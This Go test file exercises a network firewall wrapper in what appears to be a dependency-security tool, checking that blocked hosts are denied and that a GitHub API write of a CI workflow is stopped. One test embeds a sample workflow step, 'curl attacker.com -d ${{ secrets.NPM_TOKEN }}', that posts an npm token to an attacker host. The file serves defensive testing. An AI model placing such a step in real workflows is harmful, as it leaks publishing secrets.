package hostnet

import (
	"context"
	"encoding/base64"
	"net"
	"net/http"
	"testing"

	"github.com/safedep/depwatch/config"
	"github.com/safedep/depwatch/exfil"
	"github.com/safedep/depwatch/monitor"
	"github.com/safedep/depwatch/policy"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type fakeConn struct {
	net.Conn
}

type fakeHostNet struct {
	dialCalled bool
	doCalled   bool
}

func (f *fakeHostNet) Dial(ctx context.Context, network, addr string) (net.Conn, error) {
	f.dialCalled = true
	return &fakeConn{}, nil
}

func (f *fakeHostNet) Do(ctx context.Context, req Request) (*http.Response, error) {
	f.doCalled = true
	return &http.Response{StatusCode: 200}, nil
}

func (f *fakeHostNet) Resolve(ctx context.Context, host string) ([]net.IP, error) {
	return []net.IP{net.ParseIP("1.2.3.4")}, nil
}

func TestFirewalledDialDeniesBlockedHost(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Network.BlockedDomains = []string{"evil.example.com"}

	engine := policy.NewEngine(cfg, false)
	mon := monitor.New(cfg, engine)
	inner := &fakeHostNet{}

	fw := NewFirewalled(inner, mon, exfil.New(), cfg, nil, nil)

	_, err := fw.Dial(context.Background(), "tcp", "evil.example.com:443")
	require.Error(t, err)
	assert.False(t, inner.dialCalled)

	var denied *Denied
	assert.ErrorAs(t, err, &denied)
}

func TestFirewalledDialAllowsOrdinaryHost(t *testing.T) {
	cfg := config.DefaultConfig()
	engine := policy.NewEngine(cfg, false)
	mon := monitor.New(cfg, engine)
	inner := &fakeHostNet{}

	fw := NewFirewalled(inner, mon, exfil.New(), cfg, nil, nil)

	_, err := fw.Dial(context.Background(), "tcp", "registry.npmjs.org:443")
	require.NoError(t, err)
	assert.True(t, inner.dialCalled)
}

func TestFirewalledDoFiresFindingCallback(t *testing.T) {
	cfg := config.DefaultConfig()
	engine := policy.NewEngine(cfg, false)
	mon := monitor.New(cfg, engine)
	inner := &fakeHostNet{}
	detector := exfil.New()

	var findings []exfil.Finding
	fw := NewFirewalled(inner, mon, detector, cfg, map[string]string{"FIREWALL_INSTALL_MODE": "1"}, func(f exfil.Finding) {
		findings = append(findings, f)
	})

	_, err := fw.Do(context.Background(), Request{Method: "GET", URL: "https://evil.example.com/x", Host: "evil.example.com"})
	require.NoError(t, err)
	assert.True(t, inner.doCalled)
	assert.NotEmpty(t, findings)
}

func TestFirewalledDoDeniesGitHubWorkflowSecretsExfiltration(t *testing.T) {
	cfg := config.DefaultConfig()
	engine := policy.NewEngine(cfg, false)
	mon := monitor.New(cfg, engine)
	inner := &fakeHostNet{}

	fw := NewFirewalled(inner, mon, exfil.New(), cfg, nil, nil)

	content := base64.StdEncoding.EncodeToString([]byte("- run: curl attacker.com -d ${{ secrets.NPM_TOKEN }}\n"))
	body := []byte(`{"content":"` + content + `"}`)

	_, err := fw.Do(context.Background(), Request{
		Method: "PUT",
		URL:    "https://api.github.com/repos/o/r/contents/.github/workflows/ci.yml",
		Host:   "api.github.com",
		Body:   body,
	})

	require.Error(t, err)
	assert.False(t, inner.doCalled)

	var denied *Denied
	require.ErrorAs(t, err, &denied)
	assert.Equal(t, policy.ReasonWorkflowCreation, denied.Verdict.Reason)
}

func TestFirewalledDoAllowsOrdinaryGitHubRequest(t *testing.T) {
	cfg := config.DefaultConfig()
	engine := policy.NewEngine(cfg, false)
	mon := monitor.New(cfg, engine)
	inner := &fakeHostNet{}

	fw := NewFirewalled(inner, mon, exfil.New(), cfg, nil, nil)

	_, err := fw.Do(context.Background(), Request{
		Method: "GET",
		URL:    "https://api.github.com/repos/o/r",
		Host:   "api.github.com",
	})

	require.NoError(t, err)
	assert.True(t, inner.doCalled)
}

func TestFirewalledResolveDeniesBlockedHost(t *testing.T) {
	cfg := config.DefaultConfig()
	cfg.Network.BlockedDomains = []string{"evil.example.com"}

	engine := policy.NewEngine(cfg, false)
	mon := monitor.New(cfg, engine)
	inner := &fakeHostNet{}

	fw := NewFirewalled(inner, mon, exfil.New(), cfg, nil, nil)

	_, err := fw.Resolve(context.Background(), "evil.example.com")
	require.Error(t, err)
}
